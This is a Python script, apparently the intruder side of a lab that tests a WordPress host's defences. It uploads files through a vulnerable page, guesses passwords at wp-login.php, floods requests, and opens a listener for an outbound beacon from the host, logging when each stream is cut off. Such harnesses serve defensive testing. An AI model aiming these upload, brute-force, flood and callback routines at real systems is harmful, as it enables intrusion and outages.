"""What the intruder does from intruder01: stdlib only, piped to `python3 -` on that host. One JSON document on stdout.

    upload ADDRESS NAME PAGE FILE…   post files (name=base64) through the weak page
    get ADDRESS NAME PATH [AGENT]    one request; status, SHA-256 and text
    post ADDRESS NAME PATH NAME=TEXT…   one form, sent; status, where it leads, text
    guess ADDRESS NAME LOGIN:RIGHT COUNT RATE   wrong passwords at WordPress's login, then the right one
    ask ADDRESS NAME PATH COUNT RATE   numbered requests at a rate; how many were answered with what
    flood ADDRESS NAME PATH COUNT RATE LOG   the same, and goes on until it is cut off; note each answer's time
    hold ADDRESS NAME LOG SECONDS    keep one HTTP connection alive, note each answer's time
    listen PORT LOG SECONDS          accept one connection from the host, note when each line arrives
    call ADDRESS PORT SECONDS        (on the host) keep one connection outwards alive

Times are seconds since the epoch. Each loop ends by itself.
"""

import base64
import hashlib
import http.client
import json
import socket
import sys
import time
import urllib.parse
from pathlib import Path

_BEAT = 0.2
_SILENCE = 5.0  # a busy host answers late; the time of the last answer shows when it was cut


def get(address: str, name: str, path: str, agent: str = "Mozilla/5.0") -> dict[str, object]:
    """One request, read as a visitor would."""
    connection = http.client.HTTPConnection(address, 80, timeout=8)
    try:
        connection.request("GET", path, headers={"Host": name, "User-Agent": agent})
        answer = connection.getresponse()
        body = answer.read()
    except OSError as error:
        return {"status": 0, "error": type(error).__name__}
    return {
        "status": answer.status,
        "sha256": hashlib.sha256(body).hexdigest(),
        "text": body.decode("utf-8", "replace"),
    }


def upload(address: str, name: str, page: str, *files: str) -> list[dict[str, object]]:
    """Post each NAME=BASE64 through the weak page."""
    said: list[dict[str, object]] = []
    for item in files:
        target, _, content = item.partition("=")
        body = urllib.parse.urlencode({"name": target, "content": base64.b64decode(content) and content})
        connection = http.client.HTTPConnection(address, 80, timeout=15)
        headers = {"Host": name, "Content-Type": "application/x-www-form-urlencoded"}
        connection.request("POST", page, body, headers)
        answer = connection.getresponse()
        said.append({"name": target, "status": answer.status, "text": answer.read().decode("utf-8", "replace")[:200]})
    return said


def post(address: str, name: str, path: str, *fields: str) -> dict[str, object]:
    """One form, sent. Status 0 where nothing answered."""
    body = urllib.parse.urlencode([field.partition("=")[::2] for field in fields])
    connection = http.client.HTTPConnection(address, 80, timeout=8)
    headers = {"Host": name, "Content-Type": "application/x-www-form-urlencoded"}
    try:
        connection.request("POST", path, body, headers)
        answer = connection.getresponse()
        text = answer.read().decode("utf-8", "replace")
    except OSError as error:
        return {"status": 0, "error": type(error).__name__}
    return {"status": answer.status, "to": answer.getheader("Location", ""), "text": text[:4000]}


def guess(address: str, name: str, account: str, count: str, rate: str) -> dict[str, object]:
    """Wrong passwords at a rate a second, then the right one; `in`: whether that one logged in."""
    login, _, right = account.partition(":")
    wrong, at = 0, "/wp-login.php"
    for number in range(int(count)):
        wrong += post(address, name, at, f"log={login}", f"pwd=no-{number}")["status"] == 200
        time.sleep(1 / float(rate))
    last = post(address, name, at, f"log={login}", f"pwd={right}")
    return {"wrong": wrong, "in": last["status"] == 302 and "wp-admin" in str(last["to"])}


def ask(address: str, name: str, path: str, count: str, rate: str) -> dict[str, object]:
    """At most so many requests at a rate a second; how many were answered."""
    statuses: dict[str, int] = {}
    for number in range(int(count)):
        begun = time.monotonic()
        status = str(get(address, name, f"{path}{number}")["status"])
        statuses[status] = statuses.get(status, 0) + 1
        if statuses.get("0", 0) >= 3:  # blocked: three silences say so
            break
        time.sleep(max(0.0, 1 / float(rate) - (time.monotonic() - begun)))
    return {"answered": sum(number for status, number in statuses.items() if status != "0"), "statuses": statuses}


def _note(log: str, **values: object) -> None:
    Path(log).write_text(json.dumps(values), encoding="ascii")


def flood(address: str, name: str, path: str, *rest: str) -> None:
    """At most so many requests at a rate a second, each over a connection of its own, until there is no answer."""
    count, rate, log = rest
    last = 0.0
    for number in range(int(count)):
        begun = time.monotonic()
        if get(address, name, f"{path}{number}")["status"] == 0:
            break
        last = time.time()
        _note(log, answers=number + 1, last=last, alive=True)
        time.sleep(max(0.0, 1 / float(rate) - (time.monotonic() - begun)))
    _note(log, last=last, alive=False)


def hold(address: str, name: str, log: str, seconds: str) -> None:
    """Ask over one and the same connection until it falls silent."""
    connection = http.client.HTTPConnection(address, 80, timeout=_SILENCE)
    answers, last, end = 0, 0.0, time.time() + float(seconds)
    try:
        while time.time() < end:
            connection.request("HEAD", "/wp-includes/images/blank.gif", headers={"Host": name})
            connection.getresponse().read()
            answers, last = answers + 1, time.time()
            _note(log, answers=answers, last=last, alive=True)
            time.sleep(_BEAT)
    except (OSError, http.client.HTTPException):
        _note(log, answers=answers, last=last, alive=False)


def listen(port: str, log: str, seconds: str) -> None:
    """Wait for the host to call, and note each line that comes."""
    lines, last, end = 0, 0.0, time.time() + float(seconds)
    with socket.create_server(("", int(port))) as server:
        server.settimeout(float(seconds))
        peer, _ = server.accept()
        peer.settimeout(_SILENCE)
        try:
            while time.time() < end and peer.recv(64):
                lines, last = lines + 1, time.time()
                _note(log, answers=lines, last=last, alive=True)
        except OSError:
            pass
    _note(log, answers=lines, last=last, alive=False)


def call(address: str, port: str, seconds: str) -> None:
    """From the host: a connection outwards, one line each beat."""
    end = time.time() + float(seconds)
    with socket.create_connection((address, int(port)), timeout=5) as peer:
        peer.settimeout(_SILENCE)
        while time.time() < end:
            peer.sendall(b"beat\n")
            time.sleep(_BEAT)


if __name__ == "__main__":
    print(json.dumps(globals()[sys.argv[1]](*sys.argv[2:])))
